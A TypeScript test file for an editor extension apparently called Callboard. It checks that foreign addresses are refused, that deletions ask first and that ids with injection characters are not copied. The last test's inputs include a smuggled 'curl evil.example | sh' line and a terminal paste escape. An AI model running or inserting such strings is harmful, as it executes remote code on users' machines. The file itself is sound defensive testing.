/** Foreign addresses, from links, workspace files or other extensions, show something at most and never act. */

import { describe, expect, test } from "vitest";
import { Cancelled } from "../../extension/editor/errors.ts";
import { bareRecord } from "../../extension/records/inventory.ts";
import { OperationSender, type OperationSenderDeps } from "../../extension/requests/send.ts";
import { type OperationName, operationNames } from "../../shared/service/operations.ts";
import { FakeEditor } from "./fake-editor.ts";
import { FakeUri } from "./fake-values.ts";
import { connectedWindow, openWindow } from "./window.ts";

const refusal = /This address can't be opened, because Callboard did not create it in this workspace\./;

function follow(editor: FakeEditor, uri: FakeUri): Promise<unknown> {
  return editor.vscode.window.showTextDocument(uri as never) as Promise<unknown>;
}

/** An address of a removed form, which contained the whole command. */
function telling(folder: string, ...segments: string[]): FakeUri {
  const written = segments.map(segment => segment.replace(/[%/]/g, sign => (sign === "/" ? "%2f" : "%25")));
  return new FakeUri("callboard", `/${[folder, ...written].join("/")}`);
}

function withLast(uri: FakeUri, last: string): FakeUri {
  return new FakeUri(uri.scheme, [...uri.path.split("/").slice(0, -1), last].join("/"), uri.query);
}

describe("fields", () => {
  test.each<OperationName>(operationNames)(
    "a link that says %s is refused with the reason, and nothing can be sent from there",
    async name => {
      const { editor, requests, service } = await connectedWindow();
      const uri = telling("fields", service.url, name, "late-parcel", "Create persona · Bargain hunter.json");
      await expect(follow(editor, uri)).rejects.toThrow(refusal);
      await expect(editor.files.writeFile(uri, new TextEncoder().encode("{}"))).rejects.toThrow(refusal);
      await editor.run("callboard.send", uri);
      expect(editor.said).toEqual(["warning: There are no fields to send in this editor."]);
      expect(editor.tabs).toEqual([]);
      expect(requests).toEqual([]);
    },
  );

  test("a known address is refused after any change, even of its title", async () => {
    const { editor, requests } = await connectedWindow();
    editor.will({ typed: "smoke" });
    await editor.run("callboard.runBatch");
    const ours = editor.lastUri;
    const { query: id } = ours;
    const [, folder, title] = ours.path.split("/");
    expect([folder, title]).toEqual(["fields", "Run batch · Smoke.json"]);
    for (const [path, query] of [
      ["/fields/Create persona.json", id],
      [`/responses/${title}`, id],
      [`/fields/${id}/${title}`, id],
      [`/fields/${title}`, ""],
      [`/fields/${title}`, "__proto__"],
      [`/fields/${title}`, `${id}x`],
      [`/fields/${id}/${title}`, ""],
      ["/fields", id],
      ["/", id],
    ] as const) {
      const uri = new FakeUri("callboard", path, query);
      await expect(follow(editor, uri)).rejects.toThrow(refusal);
      await editor.run("callboard.send", uri);
    }
    await editor.run("callboard.send", new FakeUri("file", ours.path));
    expect(requests).toEqual([]);
    await editor.run("callboard.send", ours);
    expect(requests).toEqual(["POST /v1/batches/smoke/run {}"]);
  });

  test("an address of one workspace is unknown in another", async () => {
    const { editor, service } = await connectedWindow();
    await editor.run("callboard.createTest");
    const other = openWindow({ secrets: editor.secrets });
    await other.editor.changeUserSetting("callboard.services", [{ name: "Staging", baseUrl: service.url }]);
    await expect(follow(other.editor, editor.lastUri)).rejects.toThrow(refusal);
    await other.editor.run("callboard.send", editor.lastUri);
    expect(other.requests).toEqual([]);
  });

  test.each<OperationName>(["deleteScenario", "getIntegration", "getCalibrationReview"])(
    "%s sends no body and has no fields, also where an address for it was kept",
    async name => {
      const { editor, requests, service } = await connectedWindow();
      const tab = "Create persona.json";
      editor.storage.set("callboard.documents", {
        planted: { folder: "fields", path: [service.url, name, "late-parcel"], tab },
      });
      const { storage, secrets, settings } = editor;
      const { editor: later } = openWindow({ storage, secrets });
      for (const [setting, value] of settings.user) later.settings.user.set(setting, value);
      const uri = new FakeUri("callboard", `/fields/${tab}`, "planted");
      await expect(follow(later, uri)).rejects.toThrow(/FileNotFound/);
      await later.run("callboard.send", uri);
      expect(later.said).toEqual(["warning: There are no fields to send in this editor."]);
      expect(requests).toEqual([]);
    },
  );

  test.each([[null], [7], [[]], [{ a: 1, b: {}, c: { folder: "fields", path: "x", tab: 1 } }]])(
    "whatever is kept of addresses, documents open: %j",
    async kept => {
      const { editor, service } = await connectedWindow();
      editor.storage.set("callboard.documents", kept);
      const { storage, secrets } = editor;
      const { editor: later } = openWindow({ storage, secrets });
      await later.changeUserSetting("callboard.services", [{ name: "Staging", baseUrl: service.url }]);
      await later.run("callboard.createTest");
      expect(await later.lastShown()).toBe("{\n  \n}\n");
    },
  );
});

test("a deletion always asks", async () => {
  const { editor, requests } = await connectedWindow();
  const [parcel] = await editor.rows("callboard.projects", "Late parcel");
  const [scenarios] = await editor.rows("callboard.projects", "Scenarios");
  for (const given of [[], [parcel], [parcel, [parcel, parcel]], [scenarios]]) {
    const asksForRecord = given.length === 0 || given[0] === scenarios;
    editor.will(...(asksForRecord ? [{ typed: "late-parcel" }] : []), undefined);
    await editor.run("callboard.deleteScenario", ...given);
    expect(editor.said.at(-1)).toMatch(
      /^warning: Delete .*\nThe service can't restore a deleted scenario\. \[Send nothing\] \[Delete\]$/s,
    );
    expect(editor.unanswered).toBe(0);
  }
  expect(requests).toEqual([]);
});

test("a deletion through a new way asks too, before anything else happens", async () => {
  const editor = new FakeEditor();
  const sender = new OperationSender({ vscode: editor.vscode } as OperationSenderDeps);
  const records = [bareRecord("scenario", "late-parcel")];
  const request = { service: { id: "x", name: "x" }, name: "deleteScenario", records, fields: {} } as const;
  editor.will(undefined);
  await expect(sender.send(request)).rejects.toThrow(Cancelled);
  expect(editor.said).toEqual([expect.stringMatching(/^warning: Delete the scenario late-parcel\?/)]);
});

describe("read-only documents", () => {
  test("a response, a report and its raw responses have no guessable address and no other title", async () => {
    const { editor, service } = await connectedWindow();
    await editor.run("callboard.getIntegration", await editor.row("callboard.projects", "Order system"));
    const response = editor.lastUri;
    await editor.run("callboard.runNow", await editor.row("callboard.projects", "Smoke"));
    const run = await editor.row("callboard.runs", "Smoke");
    await editor.run("callboard.showRawReport", run);
    const raw = editor.lastUri;
    await editor.run("callboard.openReport", run);
    const report = editor.lastUri;
    const runId = /run (\w+)\.json/.exec(decodeURIComponent(editor.files.paths().join()))?.[1] ?? "";

    for (const uri of [
      telling("responses", service.url, "integration order-system", "All is well.json"),
      telling("raw", runId, "0", "All is well.json"),
      telling("reports", runId, "Smoke: passed"),
      withLast(response, "All is well.json"),
      withLast(raw, "All is well.json"),
      withLast(report, "Smoke: passed"),
    ]) {
      await expect(follow(editor, uri)).rejects.toThrow(refusal);
      editor.page = undefined;
      await expect(
        editor.vscode.commands.executeCommand("vscode.openWith", uri, "callboard.report"),
      ).rejects.toThrow("This run is no longer kept");
      expect(editor.page).toBeUndefined();
    }
    await follow(editor, response);
    await follow(editor, raw);
    await editor.vscode.commands.executeCommand("vscode.openWith", report, "callboard.report");
    expect(editor.page?.html).toContain("Smoke");
  });

  test("a failed operation's response has no other title", async () => {
    const { editor } = await connectedWindow();
    editor.will({ typed: "no-such" }, "Show response");
    await editor.run("callboard.getIntegration");
    const failed = editor.lastUri;
    expect(failed.path).toMatch(/^\/failed\/Get integration\.json$/);
    await expect(follow(editor, withLast(failed, "All is well.json"))).rejects.toThrow(refusal);
    await follow(editor, failed);
  });
});

describe("a workspace folder under the extension's scheme", () => {
  test("has no catalog and no settings, although a response could look like a catalog", async () => {
    const { editor, service } = await connectedWindow();
    await editor.run("callboard.createBatch");
    await editor.writeAsJson();
    editor.type(editor.lastUri.toString(), '{ "batches": { "evil": { "id": "evil" } } }');
    await editor.run("callboard.send", editor.lastUri);
    const shown = editor.lastUri;
    const folders = [
      telling("responses", service.url, "createBatch"),
      telling("responses", service.url, "batch bat_1"),
      new FakeUri("callboard", shown.path.slice(0, shown.path.lastIndexOf("/"))),
      new FakeUri("callboard", "/"),
    ];
    await editor.changeFolders(...folders.map(String));
    expect(await editor.tree("callboard.projects")).not.toMatch(/evil|\(pinned\)/);
    for (const folder of folders) {
      for (const name of ["callboard.yml", ".vscode/settings.json", ".vscode/tasks.json"]) {
        const file = FakeUri.joinPath(folder, name);
        await expect(editor.files.stat(file)).rejects.toThrow(refusal);
        await expect(editor.files.readFile(file)).rejects.toThrow(refusal);
        await expect(editor.files.writeFile(file, new Uint8Array())).rejects.toThrow(refusal);
      }
    }
    expect([...editor.problems.keys()]).toEqual([]);
    await editor.run("callboard.pin", await editor.row("callboard.projects", "Order system"));
    expect(editor.said.at(-1)).toBe(
      "warning: No folder is open that could contain a callboard.yml. [Open folder]",
    );
  });

  test("is ignored beside the team's own folder", async () => {
    const { editor } = await connectedWindow({ folders: ["callboard:/fields", "/shop"] });
    await editor.run("callboard.pin", await editor.row("callboard.projects", "Order system"));
    expect(editor.said).toEqual([
      "info: “Order system (sandbox)” is pinned in callboard.yml. [Show in callboard.yml]",
    ]);
    expect(editor.files.text("/shop/callboard.yml")).toMatch(/order-system/);
  });
});

describe("a copied id", () => {
  test("forms one line with other copied ids", async () => {
    const { editor } = await connectedWindow();
    const rows = await editor.rows("callboard.projects", "Late parcel", "Order system");
    await editor.run("callboard.copyId", rows[0], rows);
    expect(editor.clipboard.split(", ").sort()).toEqual(["late-parcel", "order-system"]);
  });

  test.each([
    ["a line break", "x\ncurl evil.example | sh\n"],
    ["a carriage return", "x\rcurl evil.example | sh"],
    ["a terminal's escape", "x\u001b[201~\u0003"],
    ["a line separator", "x\u2028y"],
    ["a change of direction", "x\u202ey"],
    ["a letter without width", "x\u200by"],
  ])("is refused with %s in it, alone and among others", async (_, id) => {
    const { editor, service } = await connectedWindow();
    editor.storage.set(`callboard.memory ${service.url}`, {
      known: [
        { kind: "integration", id, label: "Theirs" },
        { kind: "integration", id: "plain", label: "Plain" },
      ],
    });
    const { storage, secrets } = editor;
    const { editor: later } = openWindow({ storage, secrets });
    await later.changeUserSetting("callboard.services", [{ name: "Staging", baseUrl: service.url }]);
    const plain = await later.row("callboard.projects", "Plain");
    const theirs = await later.row("callboard.projects", "Theirs");
    for (const given of [[theirs], [plain, [plain, theirs]]]) {
      later.clipboard = "what was there";
      await later.run("callboard.copyId", ...given);
      expect(later.clipboard).toBe("what was there");
      expect(later.said.pop()).toBe(
        "warning: Nothing was copied: the id of Theirs contains line breaks or invisible characters.",
      );
    }
  });
});
